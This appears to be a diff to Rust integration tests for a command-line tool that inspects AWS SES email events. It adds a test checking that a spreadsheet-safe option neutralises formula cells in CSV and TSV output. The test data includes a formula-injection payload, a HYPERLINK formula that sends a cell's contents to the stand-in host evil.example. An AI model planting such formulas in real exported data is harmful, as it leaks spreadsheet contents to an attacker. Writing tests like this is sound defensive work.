@@ -118,14 +118,20 @@ fn usage_errors_quoting_hostile_arguments_are_escaped_on_a_terminal() {
     );
 }
 
-/// NDJSON of `count` copies of a receipt event, the first with `subject`.
+/// NDJSON of `count` copies of a receipt event, the first with `subject` (in its headers too).
 fn events_with_one_subject(subject: &str, count: usize) -> String {
     let path = root().join("tests/fixtures/public/aws-lambda-go__ses-lambda-event.json");
     let document: serde_json::Value =
         serde_json::from_slice(&std::fs::read(path).expect("fixture")).expect("JSON");
     let mut event = document["Records"][0].clone();
     let small = event.to_string();
-    event["ses"]["mail"]["commonHeaders"]["subject"] = subject.into();
+    let mail = &mut event["ses"]["mail"];
+    mail["commonHeaders"]["subject"] = subject.into();
+    for header in mail["headers"].as_array_mut().expect("headers") {
+        if header["name"] == "Subject" {
+            header["value"] = subject.into();
+        }
+    }
     let mut lines = vec![event.to_string()];
     lines.extend(std::iter::repeat_n(small, count - 1));
     lines.join("\n")
@@ -174,4 +180,48 @@ fn a_long_cell_wraps_for_the_terminal_quickly() {
 fn table_width(line: &str) -> usize {
     let plain = regex::Regex::new("\u{1b}\\[[0-9;]*m").expect("regex");
     plain.replace_all(line, "").chars().count()
+}
+
+#[test]
+fn csv_keeps_exact_values_unless_asked_to_guard_spreadsheets() {
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
+    let dir = tempfile::TempDir::new().expect("temp dir");
+    let path = dir.path().join("events.ndjson");
+    std::fs::write(&path, events_with_one_subject(formula, 1)).expect("written");
+    let path = path.to_str().expect("UTF-8");
+    let quoted = "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Open\"\")\"";
+    let (_, exact, _) = run(&["fields", "-f", "csv", "-F", "subject,spf", path]);
+    assert_eq!(exact, format!("{quoted},PASS\r\n"));
+    let guarded_args = ["-f", "csv", "--spreadsheet-safe", path];
+    let (_, guarded, _) = run(&[&["fields", "-F", "subject,spf"], &guarded_args[..]].concat());
+    assert_eq!(
+        guarded,
+        format!("\"'{}\",PASS\r\n", &quoted[1..quoted.len() - 1])
+    );
+    let (_, tsv, _) = run(&["fields", "-F", "subject", "--spreadsheet-safe", path]);
+    assert_eq!(tsv, format!("'{formula}\n"));
+    let (_, summary, _) = run(&[&["summary"], &guarded_args[..]].concat());
+    assert!(summary.contains(",\"'=HYPERLINK("), "{summary}");
+    let (_, headers, _) = run(&[&["headers", "-n", "Subject"], &guarded_args[..]].concat());
+    assert!(headers.contains(",Subject,\"'=HYPERLINK("), "{headers}");
+    for (value, guarded) in [
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\\tx"),
+        ("a=b", "a=b"),
+    ] {
+        let input = events_with_one_subject(value, 1);
+        let (_, csv, _) = super::harness::sesinspect(&[
+            "fields",
+            "-f",
+            "csv",
+            "-F",
+            "subject",
+            "--spreadsheet-safe",
+        ])
+        .stdin(input)
+        .run();
+        assert_eq!(csv.trim_end(), guarded.replace("\\t", "\t"), "{value:?}");
+    }
 }
